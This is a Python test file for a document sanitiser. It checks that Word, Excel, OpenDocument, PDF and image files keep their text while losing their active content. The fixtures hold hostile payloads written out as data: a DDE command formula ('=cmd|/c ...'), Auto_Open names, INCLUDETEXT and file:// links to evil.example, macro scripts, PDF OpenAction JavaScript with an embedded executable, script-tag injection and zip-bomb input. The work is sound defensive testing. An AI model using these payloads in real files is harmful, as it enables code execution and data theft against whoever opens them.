"""A stranger's file as a colleague may open it: nothing of it runs, calls out, or lies inside
unseen, and what the person wrote is still there."""

import io
import re
from typing import Any

import openpyxl
import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, RectangleObject, TextStringObject

from otklik.core.refusal import Refused
from otklik.media.sanitize import disarm_file, sandbox
from otklik.media.sanitize.faults_and_findings import Fault, Unfit
from tests.media.hostile import AUTHOR, EVIL, HOSTILE, W, packed, parts_of, photo


def test_a_document_keeps_its_words_and_loses_every_way_out() -> None:
    ending, body = disarm_file.disarm_file(packed(HOSTILE))
    kept = parts_of(body)
    assert ending == "docx"
    assert set(kept) == {
        "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
        "word/settings.xml", "word/_rels/settings.xml.rels", "word/media/one.jpeg",
    }  # fmt: skip
    whole = b"\n".join(kept.values()).decode("utf-8", "replace")
    for word in (EVIL, AUTHOR, "DDE", "AUTO c:", "INCLUDETEXT", "macro", "OLEObject", "svgBlip",
                 "altChunk", "attachedTemplate", "rsid", "Telephone", "vba"):  # fmt: skip
        assert word not in whole, word
    document = kept["word/document.xml"].decode()
    for word in ("просроченное </w:t>", "видно из поля", "видно из простого", "PAGEREF", 'PAGE "',
                 "магазин", "папка", "вставка", 'r:embed="photo"', 'xmlns:unused="u"'):  # fmt: skip
        assert word in document, word
    links = kept["word/_rels/document.xml.rels"].decode()
    assert "https://shop.example/" in links
    assert 'Target="about:blank"' in links


@pytest.mark.parametrize(
    ("sentence", "is_left"),
    [
        (" DDE c:\\\\x ", False),
        (' HYPERLINK "https://shop.example/a" ', True),
        (' HYPERLINK "file://evil.example/a" ', False),
        (' TOC \\o "1-3" \\h ', True),
        (" QUOTE 68 68 69 ", False),
        (' PAGE " INCLUDETEXT http://evil.example/ " ', False),
    ],
)
def test_only_fields_that_count_and_name_stay_fields(sentence: str, is_left: bool) -> None:
    text = sentence.replace('"', "&quot;")
    inside = f'<w:fldSimple w:instr="{text}"><w:r><w:t>видно</w:t></w:r></w:fldSimple>'
    document = f'<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'
    _ending, body = disarm_file.disarm_file(packed(HOSTILE | {"word/document.xml": document}))
    shown = parts_of(body)["word/document.xml"].decode()
    assert "видно" in shown
    assert ("fldSimple" in shown) == is_left


def test_a_field_that_another_field_writes_is_none() -> None:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    inside = (
        mark("begin") + mark("begin") + "<w:r><w:instrText> REF evil </w:instrText></w:r>"
        + mark("end") + "<w:r><w:instrText> PAGE </w:instrText></w:r>" + mark("separate")
        + "<w:r><w:t>видно</w:t></w:r>" + mark("end")
    )  # fmt: skip
    document = f'<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'
    _ending, body = disarm_file.disarm_file(packed(HOSTILE | {"word/document.xml": document}))
    shown = parts_of(body)["word/document.xml"].decode()
    assert "PAGE" not in shown
    assert "видно" in shown


def test_a_workbook_keeps_values_and_shows_formulas_that_nobody_counted() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Цены"
    sheet["A1"], sheet["A2"] = "Хлеб", 30
    sheet["A3"], sheet["A4"] = "=SUM(A2)", f"=cmd|'/c {EVIL}'!A1"
    sheet["A5"] = "папка"
    sheet["A5"].hyperlink = f"file://{EVIL}/share"
    book.defined_names["Auto_Open"] = openpyxl.workbook.defined_name.DefinedName(
        "Auto_Open", attr_text="Цены!$A$1"
    )
    book.properties.creator = AUTHOR
    made = io.BytesIO()
    book.save(made)
    parts = parts_of(made.getvalue())
    counted = re.sub(
        rb"(SUM\(A2\)</f>)<v ?/>|(SUM\(A2\)</f>)<v></v>",
        rb"\1\2<v>30</v>",
        parts["xl/worksheets/sheet1.xml"],
    )
    more = {
        "xl/worksheets/sheet1.xml": counted,
        "xl/externalLinks/externalLink1.xml": f"<x>{EVIL}</x>",
        "xl/macrosheets/sheet1.xml": "<x/>",
        "xl/connections.xml": f"<x>{EVIL}</x>",
    }
    ending, body = disarm_file.disarm_file(packed(parts | more))
    assert ending == "xlsx"
    found = openpyxl.load_workbook(io.BytesIO(body))
    shown = found["Цены"]
    cells = [shown.cell(row, 1) for row in range(1, 6)]
    assert [cell.value for cell in cells[:3]] == ["Хлеб", 30, 30]
    assert cells[3].value == f"(=cmd|'/c {EVIL}'!A1)"
    assert cells[4].hyperlink is not None
    assert cells[4].hyperlink.target == "about:blank"
    assert not found.defined_names
    assert b"<f>" not in parts_of(body)["xl/worksheets/sheet1.xml"]
    assert not [name for name in parts_of(body) if "macrosheets" in name or "external" in name]
    assert found.properties.creator != AUTHOR


def test_an_opendocument_keeps_its_words_and_loses_every_way_out() -> None:
    content = f"""<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d"
 xmlns:xlink="x" xmlns:script="s" xmlns:table="b" xmlns:dc="c">
<office:scripts><script:s/></office:scripts>
<office:body><text:p>Продали просроченное <text:a xlink:href="https://shop.example/">магазин</text:a>
<text:a xlink:href="vnd.sun.star.script:Library.Run">кнопка</text:a>
<office:event-listeners><script:event-listener xlink:href="macro:Run"/></office:event-listeners>
<draw:image xlink:href="Pictures/one.jpg"/><draw:image xlink:href="http://{EVIL}/b.png"/>
<draw:object xlink:href="./Object 1"/><text:execute-macro>Run</text:execute-macro>
<office:annotation><dc:creator>{AUTHOR}</dc:creator><text:p>примечание</text:p></office:annotation>
</text:p><text:section><text:section-source xlink:href="http://{EVIL}/s"/></text:section>
<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://{EVIL}/&quot;)"><text:p>80</text:p>
</table:table-cell><table:dde-links><table:dde-link/></table:dde-links></office:body>
</office:document-content>"""
    parts = {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet-template",
        "content.xml": content,
        "meta.xml": f"<x>{AUTHOR}</x>",
        "settings.xml": "<x/>",
        "Basic/Standard/Module1.xml": f"<x>{EVIL}</x>",
        "Scripts/python/run.py": EVIL,
        "Object 1/content.xml": f"<x>{EVIL}</x>",
        "Pictures/one.jpg": photo(),
        "Pictures/two.svg": f"<svg>{EVIL}</svg>",
        "META-INF/manifest.xml": f"<x>{EVIL}</x>",
    }
    ending, body = disarm_file.disarm_file(packed(parts))
    kept = parts_of(body)
    assert ending == "ods"
    assert next(iter(kept)) == "mimetype"
    assert set(kept) == {"mimetype", "content.xml", "Pictures/one.jpg", "META-INF/manifest.xml"}
    whole = b"\n".join(kept.values()).decode("utf-8", "replace")
    for word in (EVIL, AUTHOR, "macro", "sun.star", "dde-link", "Object 1", "formula", "Telephone"):
        assert word not in whole, word
    for word in ("просроченное", "https://shop.example/", "кнопка", "примечание", ">80<"):
        assert word in whole, word


def test_a_pdf_keeps_its_pages_and_loses_what_runs_and_what_lies_inside() -> None:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject(f"app.go('{EVIL}')")}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject({NameObject(name): value for name, value in script.items()})
    )
    writer.add_attachment("run.exe", b"MZ " + EVIL.encode())
    writer.add_metadata({"/Author": EVIL})
    writer.add_uri(0, f"file://{EVIL}/share", RectangleObject((0, 0, 9, 9)))
    writer.add_uri(0, "https://shop.example/", RectangleObject((9, 9, 20, 20)))
    made = io.BytesIO()
    writer.write(made)
    ending, body = disarm_file.disarm_file(made.getvalue())
    assert ending == "pdf"
    found = PdfReader(io.BytesIO(body))
    assert len(found.pages) == 1
    notes: Any = found.pages[0]["/Annots"]
    assert "shop.example" in str(notes[1])
    assert not found.attachments
    for word in (EVIL.encode(), b"JavaScript", b"EmbeddedFile", b"MZ "):
        assert word not in body, word


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        (b"\xd0\xcf\x11\xe0 old Word", Fault.OLD),
        (b"\x00\x01\x02 whatever", Fault.UNKNOWN),
        (packed({"run.js": EVIL}), Fault.UNKNOWN),
        (packed(HOSTILE | {"word/document.xml": "<!DOCTYPE x><x/>"}), Fault.HOSTILE),
        (packed(HOSTILE | {"word/header.xml": "<a>" * 90_000}), None),
        (packed(HOSTILE | {"word/bomb.xml": b" " * 90_000_000}), Fault.TOO_LARGE),
    ],
    ids=["old", "unknown", "archive", "entities", "deep", "bomb"],
)  # fmt: skip
def test_of_what_cannot_be_looked_through_there_is_no_copy(
    body: bytes, fault: Fault | None
) -> None:
    with pytest.raises(Unfit if fault else Exception) as refused:
        disarm_file.disarm_file(body)
    assert fault is None or refused.value.fault == fault  # type: ignore[attr-defined]


def test_a_page_or_a_drawing_is_given_as_its_words() -> None:
    ending, body = disarm_file.disarm_file("<script>alert(1)</script> Цена".encode("cp1251"))
    assert ending == "txt"
    assert body.decode("utf-8-sig") == "<script>alert(1)</script> Цена"


def test_the_child_says_it_in_a_process_of_its_own() -> None:
    copy = sandbox.disarm(packed(HOSTILE))
    assert copy.ending == "docx"
    assert "word/document.xml" in parts_of(copy.body)
    with pytest.raises(Refused, match="стар"):
        sandbox.disarm(b"\xd0\xcf\x11\xe0 old Word")


@pytest.mark.parametrize(("kind", "ending"), [("JPEG", "jpg"), ("PNG", "png")])
def test_a_photo_keeps_its_points_upright_and_nothing_else(kind: str, ending: str) -> None:
    taken, made = Image.new("RGB", (40, 20), "red"), io.BytesIO()
    exif = Image.Exif()
    exif[0x0112], exif[0x013B] = 6, "Некто"  # lies on its side; who took it
    taken.save(made, kind, exif=exif)
    hidden = b"<script>alert(1)</script>"
    text, copy = disarm_file.disarm_file(made.getvalue() + hidden)
    assert text == ending
    assert b"script" not in copy
    with Image.open(io.BytesIO(copy)) as shown:
        assert (shown.size, dict(shown.getexif())) == ((20, 40), {})


def test_of_half_a_photo_there_is_no_copy() -> None:
    made = io.BytesIO()
    Image.effect_noise((200, 200), 50).save(made, "PNG")
    with pytest.raises(Unfit):
        disarm_file.disarm_file(made.getvalue()[:-2000])
